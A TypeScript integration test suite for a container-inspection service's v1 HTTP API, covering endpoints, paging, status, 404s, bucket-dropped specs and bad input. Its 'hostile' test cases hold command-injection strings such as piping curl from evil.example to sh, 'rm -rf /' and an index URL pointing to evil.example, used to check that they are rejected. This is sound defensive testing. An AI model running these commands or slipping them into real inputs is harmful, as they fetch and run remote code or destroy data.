/**
 * Every v1 endpoint over real HTTP on started stacks: answers and `parameters` echo, paging,
 * status before and after the build, 404s, a matrix of bad input (4xx with every problem, nothing
 * stored, nothing queued), the API token, script URLs, and spec files dropped into the bucket.
 */
import { createHash } from 'node:crypto';
import { createServer, request, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { PutObjectCommand } from '@aws-sdk/client-s3';
import { GetQueueAttributesCommand } from '@aws-sdk/client-sqs';
import type { Context, SQSEvent } from 'aws-lambda';
import { makeS3Client, makeSqsClient } from '../../functions/adapters/clients.js';
import { validators } from '../../functions/core/validation.js';
import { makeIngestHandler } from '../../functions/ingest/handler.js';
import type { SqsHandler } from '../../functions/lib/sqs.js';
import { startLocalStack, type LocalStack, type LocalStackOptions } from '../../local/stack.js';
import { api, raw, snapshot, tempDir, waitFor } from '../support/stack.js';

const V1 = '/api/v1';

/** A specification whose python.requirements nests `depth` objects, and the pointer where the depth limit cuts it. */
function deeplyNested(depth: number): string {
  return `{"base": "fedora:39", "python": {"requirements": ${'{"a": '.repeat(depth)}1${'}'.repeat(depth)}}}`;
}
const deepPointer = `/python/requirements${'/a'.repeat(64 - 2)}`;
const scriptless = (identifier: string) => ({ base: 'registry.fedoraproject.org/fedora:40', identifier });
const context = { awsRequestId: 'replay', functionName: 'ingest', getRemainingTimeInMillis: () => 60_000 } as unknown as Context;
const sleep = (ms: number) => new Promise((r) => setTimeout(r, ms));

/** A stack that records build and ingest deliveries and can hold the builds of inspections whose id starts with a prefix. */
interface Harnessed {
  stack: LocalStack;
  dir: { path: string; remove(): void };
  builds: string[];
  ingestEvents: SQSEvent[];
  hold(idPrefix: string): void;
  release(idPrefix: string): void;
}

async function startHarnessed(options: Partial<LocalStackOptions> = {}): Promise<Harnessed> {
  const dir = tempDir('amun-api-');
  const builds: string[] = [];
  const ingestEvents: SQSEvent[] = [];
  const held = new Map<string, { promise: Promise<void>; resolve: () => void }>();
  const gate = async (id: string): Promise<void> => {
    for (const [prefix, { promise }] of held) if (id.startsWith(prefix)) await promise;
  };
  const stack = await startLocalStack({
    dataDir: dir.path,
    port: 0,
    executor: 'process',
    waitTimeSeconds: 1,
    ...options,
    wrapHandler: (name, handler): SqsHandler => async (event, ctx) => {
      if (name === 'ingest') ingestEvents.push(structuredClone(event));
      if (name === 'build') {
        for (const record of event.Records) {
          const id = (JSON.parse(record.body) as { inspection_id: string }).inspection_id;
          builds.push(id);
          await gate(id);
        }
      }
      return handler(event, ctx);
    },
  });
  return {
    stack,
    dir,
    builds,
    ingestEvents,
    hold: (prefix) => {
      let resolve!: () => void;
      const promise = new Promise<void>((r) => (resolve = r));
      held.set(prefix, { promise, resolve });
    },
    release: (prefix) => held.get(prefix)?.resolve(),
  };
}

/** The work queue as SQS reports it: visible, in flight and delayed messages. */
async function workQueueDepth(stack: LocalStack): Promise<number> {
  const sqs = makeSqsClient({ region: stack.config.region, endpoint: stack.storageEndpoint });
  const { Attributes: a = {} } = await sqs.send(
    new GetQueueAttributesCommand({ QueueUrl: stack.queueUrls.work, AttributeNames: ['ApproximateNumberOfMessages', 'ApproximateNumberOfMessagesNotVisible', 'ApproximateNumberOfMessagesDelayed'] }),
  );
  return Number(a.ApproximateNumberOfMessages ?? 0) + Number(a.ApproximateNumberOfMessagesNotVisible ?? 0) + Number(a.ApproximateNumberOfMessagesDelayed ?? 0);
}

/**
 * Runs `act` and checks that it stored nothing and queued nothing: the bucket is byte-identical,
 * the work queue (read with the SQS client right after the answer, and again once the stack is
 * idle) is empty, no build was delivered, and the app's queue sent nothing.
 */
async function expectNoSideEffects<T>(h: Harnessed, act: () => Promise<T>): Promise<T> {
  await h.stack.idle();
  const before = await snapshot(h.stack);
  const sent = h.stack.app.queues.work.sent;
  const builds = h.builds.length;
  const out = await act();
  expect(await workQueueDepth(h.stack)).toBe(0);
  await h.stack.idle();
  expect(await workQueueDepth(h.stack)).toBe(0);
  expect(h.builds.length).toBe(builds);
  expect(h.stack.app.queues.work.sent).toBe(sent);
  const after = await snapshot(h.stack);
  expect([...after.keys()]).toEqual([...before.keys()]);
  expect(after).toEqual(before);
  return out;
}

function expectErrorShape(body: unknown): void {
  expect({ valid: validators.errorAnswer(body), errors: validators.errorAnswer.errors ?? null }).toEqual({ valid: true, errors: null });
  const b = body as { error: string; parameters: object; problems: Array<{ path: string; message: string }> };
  expect(typeof b.error).toBe('string');
  expect(b.parameters).toEqual(expect.any(Object));
  expect(b.problems.length).toBeGreaterThan(0);
  for (const p of b.problems) expect(p).toEqual({ path: expect.any(String), message: expect.any(String) });
}

// ---------------------------------------------------------------------------------------------

describe('the ten v1 endpoints', () => {
  let h: Harnessed;
  let id = '';
  const script = ['import json, os', 'print(json.dumps({"item": os.environ.get("AMUN_ITEM"), "greeting": os.environ.get("GREETING")}))'].join('\n');
  const spec = { base: 'registry.fedoraproject.org/fedora:40', identifier: 'API Test', batch_size: 2, script, environment: [{ name: 'GREETING', value: 'hi' }] };

  beforeAll(async () => {
    h = await startHarnessed();
  });
  afterAll(async () => {
    await h?.stack.stop();
    h?.dir.remove();
  });

  it('GET /version', async () => {
    const r = await api(h.stack.apiUrl, 'GET', `${V1}/version`);
    expect(r.status).toBe(200);
    // service_version names Amun's version and its store layout's.
    expect(r.body).toEqual({ version: h.stack.config.serviceVersion, service_version: expect.stringMatching(new RegExp(`^${h.stack.config.serviceVersion.replace(/\./g, '\\.')}\\+store-layout\\.[0-9]+$`)) });
  });

  it('POST /_debug/generate-dockerfile renders without storing or queueing anything', async () => {
    const r = await expectNoSideEffects(h, () => api(h.stack.apiUrl, 'POST', `${V1}/_debug/generate-dockerfile`, spec));
    expect(r.status).toBe(200);
    expect(r.body.dockerfile).toMatch(/^FROM registry\.fedoraproject\.org\/fedora:40$/m);
    // As the original answered: the specification under parameters.specification.
    expect(r.body.parameters.specification).toMatchObject({ ...spec, package_manager: 'micropipenv', build: { requests: { cpu: '500m', memory: '256Mi' } }, run: { requests: { cpu: '500m', memory: '256Mi' } } });
  });

  it('POST /inspect answers 202 with the id and the specification with defaults filled in', async () => {
    const r = await api(h.stack.apiUrl, 'POST', `${V1}/inspect`, spec);
    expect(r.status).toBe(202);
    id = r.body.inspection_id;
    expect(id).toMatch(/^inspection-api-test-[0-9a-f]{8}$/);
    expect(r.body.parameters).toEqual({
      ...spec,
      package_manager: 'micropipenv',
      build: { requests: { cpu: '500m', memory: '256Mi' } },
      run: { requests: { cpu: '500m', memory: '256Mi' } },
      '@created': expect.stringMatching(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{6}$/),
      '@amun_version': h.stack.config.serviceVersion,
    });
    const stored = await api(h.stack.apiUrl, 'GET', `${V1}/inspect/${id}/specification`);
    expect(stored.status).toBe(200);
    expect(stored.body).toEqual({ specification: r.body.parameters, parameters: { inspection_id: id } });
  });

  it('GET /inspect lists it', async () => {
    const r = await api(h.stack.apiUrl, 'GET', `${V1}/inspect`);
    expect(r.status).toBe(200);
    expect(r.body.inspections).toContain(id);
    expect(r.body.parameters).toEqual({ page: 1, limit: 100, next_page_token: null });
  });

  it('GET status, batch-size, build log, result and item log once the inspection ran', async () => {
    const status = await waitFor('the inspection to finish', async () => {
      const s = await api(h.stack.apiUrl, 'GET', `${V1}/inspect/${id}/status`);
      return s.body?.status?.workflow?.finished ? s.body : undefined;
    });
    expect(status.parameters).toEqual({ inspection_id: id });
    expect(status.status).toMatchObject({
      build: { state: 'terminated', exit_code: 0, reason: null },
      workflow: { state: 'succeeded', items_done: 2, items_failed: 0, phase: 'Succeeded', progress: '3/3', startedAt: expect.stringMatching(/Z$/), finishedAt: expect.stringMatching(/Z$/) },
      data_stored: true,
    });
    expect(Date.parse(status.status.workflow.finishedAt)).toBeGreaterThanOrEqual(Date.parse(status.status.workflow.startedAt));

    expect((await api(h.stack.apiUrl, 'GET', `${V1}/inspect/${id}/job/batch-size`)).body).toEqual({ batch_size: 2, parameters: { inspection_id: id } });

    const log = await api(h.stack.apiUrl, 'GET', `${V1}/inspect/${id}/build/log`);
    expect(log.status).toBe(200);
    expect(log.body.parameters).toEqual({ inspection_id: id });
    expect(log.body.log).toContain('process executor');

    for (const item of [0, 1]) {
      const result = await api(h.stack.apiUrl, 'GET', `${V1}/inspect/${id}/job/${item}/result`);
      expect(result.status).toBe(200);
      expect(result.body.parameters).toEqual({ inspection_id: id, item: String(item) });
      expect(result.body.result).toMatchObject({ exit_code: 0, item, executor: 'process', stdout: { item: String(item), greeting: 'hi' } });
      const itemLog = await api(h.stack.apiUrl, 'GET', `${V1}/inspect/${id}/job/${item}/log`);
      expect(itemLog.status).toBe(200);
      expect(itemLog.body.parameters).toEqual({ inspection_id: id, item: String(item) });
      expect(itemLog.body.log).toContain(`"item": "${item}"`);
    }
  });

  it('echoes query parameters with the path parameters, on answers and on errors', async () => {
    const ok = await api(h.stack.apiUrl, 'GET', `${V1}/inspect/${id}/job/1/result?verbose=yes`);
    expect(ok.body.parameters).toEqual({ verbose: 'yes', inspection_id: id, item: '1' });
    const missing = await api(h.stack.apiUrl, 'GET', `${V1}/inspect/inspection-nothing-00000000/status?verbose=yes`);
    expect(missing.status).toBe(404);
    expect(missing.body.parameters).toEqual({ verbose: 'yes', inspection_id: 'inspection-nothing-00000000' });
  });

  it('answers 404 with the error shape for unknown ids, items outside the batch and unknown endpoints', async () => {
    const unknown = 'inspection-nothing-00000000';
    for (const path of [
      `/inspect/${unknown}/status`,
      `/inspect/${unknown}/specification`,
      `/inspect/${unknown}/job/batch-size`,
      `/inspect/${unknown}/build/log`,
      `/inspect/${unknown}/job/0/result`,
      `/inspect/${unknown}/job/0/log`,
      `/inspect/${id}/job/2/result`,
      `/inspect/${id}/job/2/log`,
      `/inspect/${id}/job/999999/result`,
      '/nothing-here',
      `/inspect/${id}`,
    ]) {
      const r = await api(h.stack.apiUrl, 'GET', `${V1}${path}`);
      expect({ path, status: r.status }).toEqual({ path, status: 404 });
      expect(validators.errorAnswer(r.body)).toBe(true);
    }
    const del = await api(h.stack.apiUrl, 'DELETE', `${V1}/inspect/${id}/status`);
    expect(del.status).toBe(404);
    expect(validators.errorAnswer(del.body)).toBe(true);
  });

  it('reports status from pending to terminated, and 404 for the build log and results before they exist', async () => {
    // The build is held from before the submit, so "before" is deterministic.
    h.hold('inspection-held-');
    let held = '';
    try {
      const submitted = await api(h.stack.apiUrl, 'POST', `${V1}/inspect`, { ...scriptless('held'), batch_size: 1 });
      expect(submitted.status).toBe(202);
      held = submitted.body.inspection_id as string;
      expect(held).toMatch(/^inspection-held-/);
      // The build message is delivered (and waits at the gate) or still queued: either way, nothing ran.
      await sleep(300);
      const before = await api(h.stack.apiUrl, 'GET', `${V1}/inspect/${held}/status`);
      expect(before.status).toBe(200);
      // The original's meanings: the data exists from submit on, the build pod is not scheduled
      // yet, and the workflow is Pending with nothing done of the build (a scriptless inspection runs nothing).
      expect(before.body.status).toEqual({
        build: { container: null, exit_code: null, finished_at: null, reason: null, started_at: null, state: 'scheduling' },
        workflow: expect.objectContaining({ state: 'pending', finished: false, phase: 'Pending', progress: '0/1', startedAt: expect.any(String), finishedAt: null }),
        data_stored: true,
      });
      expect((await api(h.stack.apiUrl, 'GET', `${V1}/inspect/${held}/build/log`)).status).toBe(404);
      expect((await api(h.stack.apiUrl, 'GET', `${V1}/inspect/${held}/job/0/result`)).status).toBe(404);
      expect((await api(h.stack.apiUrl, 'GET', `${V1}/inspect/${held}/job/0/log`)).status).toBe(404);
      // batch-size counts the results stored so far, as the original's clients poll it.
      expect((await api(h.stack.apiUrl, 'GET', `${V1}/inspect/${held}/job/batch-size`)).body.batch_size).toBe(0);
    } finally {
      h.release('inspection-held-');
    }
    const after = await waitFor('the held build to finish', async () => {
      const s = await api(h.stack.apiUrl, 'GET', `${V1}/inspect/${held}/status`);
      return s.body?.status?.workflow?.finished ? s.body.status : undefined;
    });
    expect(after.build).toMatchObject({ state: 'terminated', exit_code: 0, reason: null, started_at: expect.any(String), finished_at: expect.any(String) });
    expect(after.workflow).toMatchObject({ state: 'succeeded', finished: true, phase: 'Succeeded', progress: '1/1' });
    expect(after.data_stored).toBe(true);
    expect(h.builds.filter((b) => b === held)).toEqual([held]);
  });

  describe('spec files dropped into the bucket', () => {
    const put = (key: string, body: string) =>
      makeS3Client({ region: h.stack.config.region, endpoint: h.stack.storageEndpoint }).send(new PutObjectCommand({ Bucket: h.stack.config.bucket, Key: key, Body: body, ContentType: 'application/json' }));
    const inspectionKeys = async () => [...(await snapshot(h.stack, `${h.stack.config.storePrefix}`)).keys()];

    it('a valid drop becomes an inspection, named in <name>.consumed.json; replaying its event creates no second one', async () => {
      await put('specs/x y.json', JSON.stringify(scriptless('dropped')));
      const marker = await waitFor('the consumed marker', async () => {
        const raw = await h.stack.app.store.get('specs/x y.consumed.json');
        return raw ? (JSON.parse(raw.toString('utf8')) as { key: string; inspection_id: string }) : undefined;
      });
      expect(marker.key).toBe('specs/x y.json');
      expect(marker.inspection_id).toMatch(/^inspection-dropped-[0-9a-f]{8}$/);
      const spec = await api(h.stack.apiUrl, 'GET', `${V1}/inspect/${marker.inspection_id}/specification`);
      expect(spec.status).toBe(200);
      expect(spec.body.specification).toMatchObject(scriptless('dropped'));
      expect((await api(h.stack.apiUrl, 'GET', `${V1}/inspect`)).body.inspections).toContain(marker.inspection_id);

      // The same S3 event, delivered again (SQS is at-least-once): one inspection, same bytes.
      const delivered = h.ingestEvents.filter((e) => e.Records.some((r) => r.body.includes('"key":"specs/x+y.json"')));
      expect(delivered.length).toBe(1);
      await h.stack.idle();
      const before = await snapshot(h.stack);
      const ingest = makeIngestHandler(h.stack.app);
      for (const round of [1, 2]) expect({ round, answer: await ingest(structuredClone(delivered[0]!), context) }).toEqual({ round, answer: { batchItemFailures: [] } });
      await h.stack.idle();
      expect(await snapshot(h.stack)).toEqual(before);
      const index = [...before.keys()].filter((k) => k.startsWith(`${h.stack.app.layout.indexPrefix}/`) && k.endsWith(`_${marker.inspection_id}`));
      expect(index).toHaveLength(1);
    });

    it('an invalid drop gets <name>.error.json with every problem, and no inspection', async () => {
      await h.stack.idle();
      const before = await inspectionKeys();
      const sent = h.stack.app.queues.work.sent;
      await put('specs/bad drop.json', JSON.stringify({ base: 'fedora:39\nRUN id', colour: 'blue', batch_size: 0, environment: [{ name: 'A B', value: 'x' }] }));
      const error = await waitFor('the error marker', async () => {
        const raw = await h.stack.app.store.get('specs/bad drop.error.json');
        return raw ? (JSON.parse(raw.toString('utf8')) as { key: string; problems: Array<{ path: string; message: string }> }) : undefined;
      });
      expect(error.key).toBe('specs/bad drop.json');
      expect(error.problems.map((p) => p.path).sort()).toEqual(['/base', '/batch_size', '/colour', '/environment/0/name']);
      await h.stack.idle();
      expect(await inspectionKeys()).toEqual(before);
      expect(h.stack.app.queues.work.sent).toBe(sent);
      expect(await h.stack.app.store.exists('specs/bad drop.consumed.json')).toBe(false);
    });

    it('a drop that is not JSON (or YAML) gets an error marker too', async () => {
      await put('specs/garbage.json', '{"base": [unclosed');
      const error = await waitFor('the error marker', async () => {
        const raw = await h.stack.app.store.get('specs/garbage.error.json');
        return raw ? (JSON.parse(raw.toString('utf8')) as { problems: Array<{ path: string }> }) : undefined;
      });
      expect(error.problems).toEqual([{ path: '', message: expect.any(String) }]);
    });

    it.each([
      ['nested 2,000 deep', 'specs/deep.json', Buffer.from(deeplyNested(2000)), [{ path: deepPointer, message: 'nested more than 64 levels deep' }]],
      ['not UTF-8', 'specs/latin1.json', Buffer.concat([Buffer.from('{"base": "fedora:39", "identifier": "caf'), Buffer.from([0xe9]), Buffer.from('"}')]), [{ path: '', message: 'not valid UTF-8 at byte offset 40' }]],
    ])('a drop %s gets an error marker at the first delivery, and is not retried', async (_what, key, body, problems) => {
      const sent = h.stack.app.queues.work.sent;
      await makeS3Client({ region: h.stack.config.region, endpoint: h.stack.storageEndpoint }).send(new PutObjectCommand({ Bucket: h.stack.config.bucket, Key: key, Body: body, ContentType: 'application/json' }));
      const errorKey = key.replace(/\.json$/, '.error.json');
      const error = await waitFor('the error marker', async () => {
        const raw = await h.stack.app.store.get(errorKey);
        return raw ? (JSON.parse(raw.toString('utf8')) as { problems: Array<{ path: string; message: string }> }) : undefined;
      });
      expect(error.problems).toEqual(problems);
      await h.stack.idle();
      const deliveries = h.ingestEvents.filter((e) => e.Records.some((r) => r.body.includes(`"key":"${key}"`)));
      expect(deliveries).toHaveLength(1);
      expect(h.stack.app.queues.work.sent).toBe(sent);
      const sqs = makeSqsClient({ region: h.stack.config.region, endpoint: h.stack.storageEndpoint });
      const dlq = await sqs.send(new GetQueueAttributesCommand({ QueueUrl: h.stack.dlqUrls.ingestEvents, AttributeNames: ['ApproximateNumberOfMessages'] }));
      expect(dlq.Attributes?.ApproximateNumberOfMessages).toBe('0');
    });
  });
});

// ---------------------------------------------------------------------------------------------

describe('listing and bad input', () => {
  let h: Harnessed;
  const ids: string[] = [];

  beforeAll(async () => {
    h = await startHarnessed();
  });
  afterAll(async () => {
    await h?.stack.stop();
    h?.dir.remove();
  });

  it('lists newest first, pages of 3 are 3/3/1 without overlap, and page_token gives the same next page', async () => {
    for (let i = 0; i < 7; i++) {
      const r = await api(h.stack.apiUrl, 'POST', `${V1}/inspect`, scriptless(`page ${i}`));
      expect(r.status).toBe(202);
      ids.push(r.body.inspection_id);
      await sleep(2); // distinct creation milliseconds, so "newest first" is one order
    }
    const newestFirst = [...ids].reverse();
    const all = await api(h.stack.apiUrl, 'GET', `${V1}/inspect`);
    expect(all.body.inspections).toEqual(newestFirst);

    const pages = [];
    for (const page of [1, 2, 3, 4]) {
      const r = await api(h.stack.apiUrl, 'GET', `${V1}/inspect?page=${page}&limit=3`);
      expect(r.status).toBe(200);
      expect(r.body.parameters).toMatchObject({ page, limit: 3 });
      pages.push(r.body);
    }
    expect(pages.map((p) => p.inspections.length)).toEqual([3, 3, 1, 0]);
    expect(pages.flatMap((p) => p.inspections)).toEqual(newestFirst);
    expect(new Set(pages.flatMap((p) => p.inspections)).size).toBe(7);
    expect(pages[0].parameters.next_page_token).toEqual(expect.any(String));
    expect(pages[1].parameters.next_page_token).toEqual(expect.any(String));
    expect(pages[2].parameters.next_page_token).toBeNull();

    // Following the tokens walks the same pages.
    let token: string | null = pages[0].parameters.next_page_token;
    const followed = [pages[0].inspections];
    while (token) {
      const r = await api(h.stack.apiUrl, 'GET', `${V1}/inspect?limit=3&page_token=${encodeURIComponent(token)}`);
      expect(r.status).toBe(200);
      followed.push(r.body.inspections);
      token = r.body.parameters.next_page_token;
    }
    expect(followed).toEqual(pages.slice(0, 3).map((p) => p.inspections));

    // A limit beyond the total.
    expect((await api(h.stack.apiUrl, 'GET', `${V1}/inspect?limit=50`)).body.inspections).toEqual(newestFirst);
  });

  it('clamps paging as the original did: page <= 0 reads as 1, limit <= 0 or over 1000 as the default 100', async () => {
    const first = await api(h.stack.apiUrl, 'GET', `${V1}/inspect?page=1&limit=3`);
    for (const page of ['0', '-1', '-1000']) {
      const r = await api(h.stack.apiUrl, 'GET', `${V1}/inspect?page=${page}&limit=3`);
      expect(r.status).toBe(200);
      expect(r.body.parameters).toMatchObject({ page: 1, limit: 3 });
      expect(r.body.inspections).toEqual(first.body.inspections);
    }
    const all = await api(h.stack.apiUrl, 'GET', `${V1}/inspect`);
    for (const limit of ['0', '-3', '1001', '5000']) {
      const r = await api(h.stack.apiUrl, 'GET', `${V1}/inspect?limit=${limit}`);
      expect(r.status).toBe(200);
      expect(r.body.parameters).toMatchObject({ page: 1, limit: 100 });
      expect(r.body.inspections).toEqual(all.body.inspections);
    }
    expect((await api(h.stack.apiUrl, 'GET', `${V1}/inspect?limit=1000`)).body.parameters.limit).toBe(1000);
    // A page past the last is empty, however far: a client walking pages until an empty one stops.
    const far = await api(h.stack.apiUrl, 'GET', `${V1}/inspect?page=99999999999`);
    expect(far.status).toBe(200);
    expect(far.body.inspections).toEqual([]);
  });

  const spec = scriptless('bad input');
  const hostile: Array<[string, unknown, string]> = [
    ['newline in base', { ...spec, base: 'fedora:39\nRUN curl http://evil.example | sh' }, '/base'],
    ['shell in base', { ...spec, base: 'fedora:39; rm -rf /' }, '/base'],
    ['substitution in base', { ...spec, base: '$(id)' }, '/base'],
    ['quote in base', { ...spec, base: 'fedora:39" AS x' }, '/base'],
    ['empty base', { ...spec, base: '' }, '/base'],
    ['newline in a package', { ...spec, packages: ['vim\nRUN rm -rf /'] }, '/packages/0'],
    ['shell in a package', { ...spec, packages: ['vim && curl evil.example'] }, '/packages/0'],
    ['option as a package', { ...spec, packages: ['--nogpgcheck'] }, '/packages/0'],
    ['shell in a python package', { ...spec, python_packages: ['numpy; rm -rf /'] }, '/python_packages/0'],
    ['option as a python package', { ...spec, python_packages: ['--index-url=http://evil.example/'] }, '/python_packages/0'],
    ['space in an env name', { ...spec, environment: [{ name: 'A B', value: 'x' }] }, '/environment/0/name'],
    ['= in an env name', { ...spec, environment: [{ name: 'A=B', value: 'x' }] }, '/environment/0/name'],
    ['shell in an env name', { ...spec, environment: [{ name: 'PATH;id', value: 'x' }] }, '/environment/0/name'],
    ['newline in an env value', { ...spec, environment: [{ name: 'A', value: 'x\nRUN id' }] }, '/environment/0/value'],
    ['.. in a file path', { ...spec, files: [{ path: '/etc/../root/.ssh/authorized_keys', content: 'x' }] }, '/files/0/path'],
    ['control character in identifier', { ...spec, identifier: 'a\u0000b' }, '/identifier'],
    ['shell in a cpu request', { ...spec, build: { requests: { cpu: '1; rm -rf /' } } }, '/build/requests/cpu'],
    ['newline in a GPU product', { ...spec, run: { requests: { gpu: { count: 1, product: 'A100\nRUN id' } } } }, '/run/requests/gpu/product'],
  ];

  const cases: Array<{ name: string; method: string; path: string; body?: string | Buffer; headers?: Record<string, string>; status: number; paths?: string[] }> = [
    { name: 'invalid JSON', method: 'POST', path: '/inspect', body: '{"base": "fedora:39",', status: 400, paths: [''] },
    { name: 'empty body', method: 'POST', path: '/inspect', status: 400, paths: [''] },
    { name: 'blank body', method: 'POST', path: '/inspect', body: '  \n', status: 400, paths: [''] },
    { name: 'a JSON array', method: 'POST', path: '/inspect', body: JSON.stringify([spec]), status: 400, paths: [''] },
    { name: 'JSON null', method: 'POST', path: '/inspect', body: 'null', status: 400, paths: [''] },
    { name: 'a JSON string', method: 'POST', path: '/inspect', body: '"fedora:39"', status: 400, paths: [''] },
    {
      name: 'wrong types',
      method: 'POST',
      path: '/inspect',
      body: JSON.stringify({ base: 42, batch_size: '3', packages: 'vim', send_messages: 'yes', environment: { GREETING: 'x' } }),
      status: 400,
      paths: ['/base', '/batch_size', '/packages', '/send_messages', '/environment'],
    },
    { name: 'batch_size 0', method: 'POST', path: '/inspect', body: JSON.stringify({ ...spec, batch_size: 0 }), status: 400, paths: ['/batch_size'] },
    { name: 'unknown field', method: 'POST', path: '/inspect', body: JSON.stringify({ ...spec, colour: 'blue' }), status: 400, paths: ['/colour'] },
    { name: 'unknown nested field', method: 'POST', path: '/inspect', body: JSON.stringify({ ...spec, run: { requests: { cpu: '1', gpus: 2 } } }), status: 400, paths: ['/run/requests/gpus'] },
    { name: 'unknown field (generate-dockerfile)', method: 'POST', path: '/_debug/generate-dockerfile', body: JSON.stringify({ ...spec, colour: 'blue' }), status: 400, paths: ['/colour'] },
    ...hostile.map(([name, body, path]) => ({ name: `hostile: ${name}`, method: 'POST', path: '/inspect', body: JSON.stringify(body), status: 400, paths: [path] })),
    ...hostile.slice(0, 3).map(([name, body, path]) => ({ name: `hostile (generate-dockerfile): ${name}`, method: 'POST', path: '/_debug/generate-dockerfile', body: JSON.stringify(body), status: 400, paths: [path] })),
    { name: 'body over 1 MiB', method: 'POST', path: '/inspect', body: JSON.stringify({ ...spec, script: 'x'.repeat(1024 * 1024 + 10) }), status: 413 },
    { name: 'id ..', method: 'GET', path: '/inspect/../status', status: 400, paths: ['/inspection_id'] },
    { name: 'id %2e%2e', method: 'GET', path: '/inspect/%2e%2e/specification', status: 400, paths: ['/inspection_id'] },
    { name: 'id with ..', method: 'GET', path: '/inspect/inspection-a..b/status', status: 400, paths: ['/inspection_id'] },
    { name: 'id with %2F', method: 'GET', path: '/inspect/inspection-a%2F..%2F..%2Fsecret/status', status: 404 },
    { name: 'id with /', method: 'GET', path: '/inspect/inspection-a/../../specification', status: 404 },
    { name: 'id ..%2F', method: 'GET', path: '/inspect/..%2Finspections-index/build/log', status: 404 },
    { name: 'uppercase id', method: 'GET', path: '/inspect/INSPECTION-ABC-12345678/status', status: 400, paths: ['/inspection_id'] },
    { name: 'id with NUL', method: 'GET', path: '/inspect/inspection-a%00/status', status: 400, paths: ['/inspection_id'] },
    { name: 'id over 63 characters', method: 'GET', path: `/inspect/inspection-${'a'.repeat(60)}/status`, status: 400, paths: ['/inspection_id'] },
    { name: 'negative item', method: 'GET', path: '/inspect/{id}/job/-1/result', status: 400, paths: ['/item'] },
    { name: 'item not a number', method: 'GET', path: '/inspect/{id}/job/abc/log', status: 400, paths: ['/item'] },
    { name: 'fractional item', method: 'GET', path: '/inspect/{id}/job/1.5/result', status: 400, paths: ['/item'] },
    { name: 'item with leading zero', method: 'GET', path: '/inspect/{id}/job/01/result', status: 400, paths: ['/item'] },
    { name: 'page=abc', method: 'GET', path: '/inspect?page=abc', status: 400, paths: ['/page'] },
    { name: 'limit=abc', method: 'GET', path: '/inspect?limit=abc', status: 400, paths: ['/limit'] },
    // A body nested thousands deep: a clear 400 at the depth limit, not a stack overflow (500).
    { name: 'requirements nested 2,000 deep', method: 'POST', path: '/inspect', body: deeplyNested(2000), status: 400, paths: [deepPointer] },
    { name: 'a JSON array nested 100,000 deep', method: 'POST', path: '/inspect', body: `${'['.repeat(100_000)}${']'.repeat(100_000)}`, status: 400, paths: ['/0'.repeat(64)] },
    // Input is never silently altered: bytes that are not UTF-8 are refused, not replaced with U+FFFD.
    { name: 'invalid UTF-8 in the body', method: 'POST', path: '/inspect', body: Buffer.concat([Buffer.from('{"base": "fedora:39", "identifier": "caf'), Buffer.from([0xe9]), Buffer.from('"}')]), status: 400, paths: [''] },
    { name: 'a truncated UTF-8 sequence', method: 'POST', path: '/_debug/generate-dockerfile', body: Buffer.concat([Buffer.from('{"base": "fedora:39", "identifier": "x'), Buffer.from([0xe2, 0x82]), Buffer.from('"}')]), status: 400, paths: [''] },
    // What a web page can send without a CORS preflight is refused.
    { name: 'a text/plain POST', method: 'POST', path: '/inspect', body: JSON.stringify(spec), headers: { 'content-type': 'text/plain' }, status: 415, paths: ['/headers/content-type'] },
    { name: 'a form POST', method: 'POST', path: '/inspect', body: 'base=fedora', headers: { 'content-type': 'application/x-www-form-urlencoded' }, status: 415, paths: ['/headers/content-type'] },
    { name: 'a POST without Content-Type', method: 'POST', path: '/inspect', body: JSON.stringify(spec), headers: { 'content-type': '' }, status: 415, paths: ['/headers/content-type'] },
    { name: 'JSON in another charset', method: 'POST', path: '/inspect', body: JSON.stringify(spec), headers: { 'content-type': 'application/json; charset=latin1' }, status: 415, paths: ['/headers/content-type'] },
    { name: 'a POST from a foreign origin', method: 'POST', path: '/inspect', body: JSON.stringify(spec), headers: { origin: 'https://evil.example' }, status: 403, paths: ['/headers/origin'] },
    { name: 'a GET from a foreign origin', method: 'GET', path: '/inspect', headers: { origin: 'https://evil.example' }, status: 403, paths: ['/headers/origin'] },
    { name: 'an opaque origin', method: 'POST', path: '/inspect', body: JSON.stringify(spec), headers: { origin: 'null' }, status: 403, paths: ['/headers/origin'] },
    // DNS rebinding: a name re-pointed at 127.0.0.1 arrives with that name as Host.
    { name: 'a Host this server is not', method: 'POST', path: '/inspect', body: JSON.stringify(spec), headers: { host: 'evil.example' }, status: 403, paths: ['/headers/host'] },
    { name: 'a Host this server is not, on a GET', method: 'GET', path: '/inspect', headers: { host: 'evil.example:8080' }, status: 403, paths: ['/headers/host'] },
    { name: 'a 127-lookalike Host name', method: 'GET', path: '/version', headers: { host: '127.0.0.1.evil.example' }, status: 403, paths: ['/headers/host'] },
  ];

  it.each(cases.map((c) => [c.name, c] as const))('bad input: %s → 4xx with every problem, nothing stored, nothing queued', async (_name, c) => {
    const path = `${V1}${c.path.replace('{id}', ids[0] ?? 'inspection-missing-00000000')}`;
    const headers: Record<string, string> = { ...(c.method === 'POST' ? { 'content-type': 'application/json' } : {}), ...c.headers };
    if (headers['content-type'] === '') delete headers['content-type'];
    const r = await expectNoSideEffects(h, () => raw(h.stack.apiUrl, c.method, path, c.body, headers));
    expect({ status: r.status }).toEqual({ status: c.status });
    expect(r.status).toBeLessThan(500);
    expectErrorShape(r.body);
    // Every problem is reported with its path (one field may break several keywords: one path, twice).
    if (c.paths) expect([...new Set((r.body.problems as Array<{ path: string }>).map((p) => p.path))].sort()).toEqual([...c.paths].sort());
  });

  it('names the byte offset of the first byte that is not UTF-8', async () => {
    const body = Buffer.concat([Buffer.from('{"base": "fedora:39", "identifier": "caf'), Buffer.from([0xe9]), Buffer.from('"}')]);
    const r = await raw(h.stack.apiUrl, 'POST', `${V1}/inspect`, body, { 'content-type': 'application/json' });
    expect(r.status).toBe(400);
    expect(r.body.problems).toEqual([{ path: '', message: 'not valid UTF-8 at byte offset 40' }]);
  });

  it('bad input: a body over 1 MiB sent in chunks without a length → 413, nothing stored', async () => {
    const r = await expectNoSideEffects(
      h,
      () =>
        new Promise<{ status: number; body: any }>((resolve, reject) => {
          const url = new URL(h.stack.apiUrl);
          const req = request({ host: url.hostname, port: url.port, method: 'POST', path: `${V1}/inspect`, headers: { 'content-type': 'application/json', 'transfer-encoding': 'chunked' } }, (res) => {
            const chunks: Buffer[] = [];
            res.on('data', (c: Buffer) => chunks.push(c));
